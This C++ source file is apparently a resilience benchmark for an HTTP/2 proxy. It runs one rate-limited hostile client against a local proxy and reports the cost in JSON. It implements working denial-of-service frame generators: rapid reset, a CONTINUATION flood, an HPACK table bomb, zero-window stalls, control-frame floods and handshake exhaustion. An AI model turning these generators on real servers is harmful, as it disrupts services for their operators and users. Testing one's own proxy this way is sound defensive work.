// SPDX-License-Identifier: Apache-2.0
//
// One hostile client, open loop, which holds itself to a share of a core: what it does costs it,
// and the question is what it costs the proxy. A connection that the proxy ends is opened anew. For
// bench/e2e/abuse.py, against a proxy of one's own on loopback; there is no other address.
//
//   --port P  --attack NAME (the table below)  --share 0.2 of a core  --connections 8  --seconds 5
//
// Prints one JSON line: units sent (frames, streams or handshakes), connections opened, bytes.
#include <poll.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <deque>
#include <string>

#include "edge_protocol.h"
#include "edge_stream.h"

namespace weir::bench {
namespace {

constexpr size_t kBatch = 64;            // units made at once
constexpr size_t kBacklog = 256 * 1024;  // unsent bytes at which a connection is left alone
constexpr unsigned kHardLimit = 120;     // seconds, whatever happens
constexpr uint32_t kLastStream = 0x7fffff00;

struct Connection {
  Stream stream;
  bool greeted = false;
  uint32_t next_id = 1;
};

std::string request_block() {
  return std::string("\x82\x87") + h2::literal(4, "/bytes/128", false) +
         h2::literal(1, "bench.test", false);
}

std::string post_block() {
  return std::string("\x83\x87") + h2::literal(4, "/bytes/128", false) +
         h2::literal(1, "bench.test", false) +
         h2::literal(28, "1000000", false);  // so that the origin waits for it
}

void rapid_reset(Connection& c, std::string& out) {
  static const std::string block = request_block();
  h2::append_frame(out, h2::kHeaders, h2::kEndHeaders | h2::kEndStream, c.next_id, block);
  h2::append_frame(out, h2::kRstStream, 0, c.next_id, h2::u32(8));  // CANCEL
  c.next_id += 2;
}

// One header block without an end.
void continuation(Connection& c, std::string& out) {
  static const std::string block = request_block();
  static const std::string field = h2::literal(58, std::string(40, 'a'), false);
  if (c.next_id == 1) h2::append_frame(out, h2::kHeaders, h2::kEndStream, 1, block);
  c.next_id = 3;
  h2::append_frame(out, h2::kContinuation, 0, 1, field);
}

void ping(Connection&, std::string& out) { h2::append_frame(out, h2::kPing, 0, 0, "12345678"); }

void settings(Connection&, std::string& out) { h2::append_frame(out, h2::kSettings, 0, 0, {}); }

void empty_data(Connection& c, std::string& out) {
  static const std::string block = post_block();
  if (c.next_id == 1) h2::append_frame(out, h2::kHeaders, h2::kEndHeaders, 1, block);
  c.next_id = 3;
  h2::append_frame(out, h2::kData, 0, 1, {});
}

void priority(Connection& c, std::string& out) {
  h2::append_frame(out, h2::kPriority, 0, c.next_id, h2::u32(0) + '\x10');
  c.next_id = c.next_id >= 1999 ? 1 : c.next_id + 2;
}

void window_update(Connection&, std::string& out) {
  h2::append_frame(out, h2::kWindowUpdate, 0, 0, h2::u32(1));
}

// 4,000 bytes enter the dynamic table once; from then on each byte asks for all of them again.
void hpack_bomb(Connection& c, std::string& out) {
  static const std::string field = std::string("\x40\x01") + "b" + '\x7f' + "\xa1\x1e" +
                                   std::string(4000, 'b');  // a length of 127 + 3873
  std::string block = request_block();
  if (c.next_id == 1) block += field;
  block.append(200, '\xbe');
  h2::append_frame(out, h2::kHeaders, h2::kEndHeaders | h2::kEndStream, c.next_id, block);
  c.next_id += 2;
}

// Answers are asked for and never taken.
void zero_window(Connection& c, std::string& out) {
  static const std::string block = request_block();
  if (c.next_id == 1) {
    h2::append_frame(out, h2::kSettings, 0, 0, std::string{0, 4} + h2::u32(0));
  }
  h2::append_frame(out, h2::kHeaders, h2::kEndHeaders | h2::kEndStream, c.next_id, block);
  c.next_id += 2;
}

struct Attack {
  const char* name;
  void (*unit)(Connection&, std::string&);  // null: the connection itself is the unit
  bool finishes;                            // of those: whether the handshake is carried through
};

constexpr Attack kAttacks[] = {
    {"rapid_reset", rapid_reset, true},
    {"continuation", continuation, true},
    {"ping", ping, true},
    {"settings", settings, true},
    {"empty_data", empty_data, true},
    {"priority", priority, true},
    {"window_update", window_update, true},
    {"hpack_bomb", hpack_bomb, true},
    {"zero_window", zero_window, true},
    {"handshake", nullptr, true},
    {"hello", nullptr, false},
};

double seconds_of(clockid_t clock) {
  timespec t{};
  clock_gettime(clock, &t);
  return static_cast<double>(t.tv_sec) + static_cast<double>(t.tv_nsec) / 1e9;
}

class Attacker {
 public:
  Attacker(int port, const Attack& attack, size_t connections)
      : port_(port), attack_(attack), tls_("h2"), connections_(connections) {}

  void run(double share, double seconds) {
    for (Connection& c : connections_) open(c);
    const double begun = seconds_of(CLOCK_MONOTONIC);
    const double own = seconds_of(CLOCK_PROCESS_CPUTIME_ID);
    double now = begun;
    for (; now - begun < seconds; now = seconds_of(CLOCK_MONOTONIC)) {
      // A nap is as long as it takes to be within the share again.
      const double over = (seconds_of(CLOCK_PROCESS_CPUTIME_ID) - own) / share - (now - begun);
      if (over > 0) {
        usleep(static_cast<useconds_t>(over * 1e6) + 100);
        continue;
      }
      if (!turn()) poll(nullptr, 0, 1);
    }
    std::printf(
        "{\"attack\": \"%s\", \"units\": %llu, \"connections\": %llu, \"bytes\": %llu, "
        "\"seconds\": "
        "%.3f, \"share\": %.3f}\n",
        attack_.name, static_cast<unsigned long long>(units_),
        static_cast<unsigned long long>(opened_), static_cast<unsigned long long>(bytes_),
        now - begun, (seconds_of(CLOCK_PROCESS_CPUTIME_ID) - own) / (now - begun));
  }

 private:
  // One batch on each connection; true if anything could be done.
  bool turn() {
    bool any = false;
    for (Connection& c : connections_) {
      bool acted = false;
      if (!step(c, acted)) {
        c.stream.close(attack_.unit != nullptr || !attack_.finishes);
        open(c);
        acted = true;
      }
      any |= acted;
    }
    return any;
  }

  bool step(Connection& c, bool& acted) {
    pollfd state{c.stream.fd(), POLLIN | POLLOUT, 0};
    poll(&state, 1, 0);
    if (state.revents & (POLLERR | POLLHUP)) return false;
    if (state.revents & POLLOUT && !c.stream.flush()) return false;
    acted = (state.revents & POLLIN) != 0;
    if (attack_.unit == nullptr && over(c, acted)) return false;
    if (acted && !drain(c)) return false;
    if (attack_.unit == nullptr) return true;
    if (!c.stream.established() || c.stream.unsent() > kBacklog) return true;
    acted = true;
    return send_batch(c);
  }

  // What the proxy answers is of no interest, but must not fill the socket.
  bool drain(Connection& c) {
    c.stream.readable(false);
    for (;;) {
      const auto chunk = c.stream.read();
      if (!chunk) return false;
      if (chunk->empty()) return true;
    }
  }

  // A connection that has cost the proxy its handshake is thrown away: "hello" does so once the
  // answer is there, unread, which spares the attacker the work of its own half.
  bool over(const Connection& c, bool answered) {
    if (!(attack_.finishes ? c.stream.established() : answered)) return false;
    ++units_;
    return true;
  }

  bool send_batch(Connection& c) {
    out_.clear();
    if (!c.greeted) {
      c.greeted = true;
      out_ += h2::kPreface;
      h2::append_frame(out_, h2::kSettings, 0, 0, {});
    }
    for (size_t i = 0; i < kBatch; ++i) attack_.unit(c, out_);
    units_ += kBatch;
    bytes_ += out_.size();
    return c.next_id < kLastStream && c.stream.write(out_);
  }

  void open(Connection& c) {
    c.greeted = false;
    c.next_id = 1;
    c.stream.open(port_, &tls_, false);
    ++opened_;
  }

  const int port_;
  const Attack& attack_;
  TlsClient tls_;
  std::deque<Connection> connections_;
  std::string out_;
  uint64_t units_ = 0;
  uint64_t opened_ = 0;
  uint64_t bytes_ = 0;
};

const Attack* find(const char* name) {
  for (const Attack& attack : kAttacks) {
    if (std::strcmp(attack.name, name) == 0) return &attack;
  }
  return nullptr;
}

}  // namespace
}  // namespace weir::bench

int main(int argc, char** argv) {
  int port = 0;
  const weir::bench::Attack* attack = nullptr;
  double share = 0.2;
  double seconds = 5;
  size_t connections = 8;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string key = argv[i];
    if (key == "--port") port = std::atoi(argv[i + 1]);
    if (key == "--attack") attack = weir::bench::find(argv[i + 1]);
    if (key == "--share") share = std::atof(argv[i + 1]);
    if (key == "--seconds") seconds = std::atof(argv[i + 1]);
    if (key == "--connections") connections = std::strtoul(argv[i + 1], nullptr, 10);
  }
  if (port == 0 || attack == nullptr || share <= 0) {
    std::fprintf(stderr, "usage: bench_edge_attack --port P --attack NAME [--share S ...]\n");
    return 2;
  }
  signal(SIGPIPE, SIG_IGN);
  alarm(weir::bench::kHardLimit);
  weir::bench::Attacker attacker(port, *attack, connections);
  attacker.run(share, seconds);
}
